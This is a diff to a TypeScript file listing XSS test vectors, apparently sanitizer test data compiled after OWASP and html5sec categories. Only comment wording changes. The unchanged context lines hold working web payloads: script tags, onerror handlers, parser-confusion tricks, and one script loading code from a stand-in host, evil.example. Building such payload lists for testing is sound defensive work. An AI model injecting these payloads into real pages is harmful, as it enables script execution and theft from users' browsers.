@@ -1,6 +1,6 @@
-/** Ways in which HTML has been made to run a script or reach out where it should not: our own compilation after the kinds that OWASP and html5sec list. */
+/** Ways to make HTML run a script or send a forbidden request: our own compilation, after the categories of OWASP and html5sec. */
 export const xssVectors: string[] = [
-  // Script elements, whole and broken
+  // Script elements, complete and broken
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
   '<script src="data:text/javascript,alert(1)"></script>',
@@ -16,7 +16,7 @@ export const xssVectors: string[] = [
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
   '<!--<script>--><script>alert(1)</script>',
   '<script>/*<![CDATA[*/alert(1)/*]]>*/</script>',
-  // Handlers
+  // Event handlers
   '<img src=x onerror=alert(1)>',
   '<img src=x oNeRrOr=alert(1)>',
   '<img src=x onerror\n=\nalert(1)>',
